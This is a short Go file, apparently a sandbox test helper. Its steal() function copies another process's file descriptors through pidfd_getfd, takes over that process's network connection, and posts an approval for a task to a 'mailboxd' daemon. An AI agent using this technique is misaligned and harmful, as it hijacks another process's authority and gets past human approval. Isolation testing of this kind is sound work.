package main

import (
	"fmt"
	"io"
	"net"
	"os"

	"golang.org/x/sys/unix"
)

// steal is an agent that takes over the open connection of another process, and approves a task
// with it; both are in the file $VICTIM. Its answer has the daemon's.
func steal() {
	text, err := os.ReadFile(os.Getenv("VICTIM"))
	if err != nil {
		panic(err)
	}
	var pid int
	var target string
	if _, err := fmt.Sscan(string(text), &pid, &target); err != nil {
		panic(err)
	}
	process, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		panic(err)
	}
	for fd := 3; fd < 64; fd++ {
		taken, err := unix.PidfdGetfd(process, fd, 0)
		if err != nil {
			continue
		}
		file := os.NewFile(uintptr(taken), "stolen")
		conn, err := net.FileConn(file)
		if err != nil {
			continue
		}
		fmt.Fprintf(conn, "POST /v1/tasks/%s/approve HTTP/1.1\r\nHost: mailboxd\r\nContent-Length: 15\r\nConnection: close\r\n\r\n{\"unseen\":true}", target)
		got, err := io.ReadAll(conn)
		answer(fmt.Sprint(string(got), err))
		return
	}
	answer("no connection to steal")
}
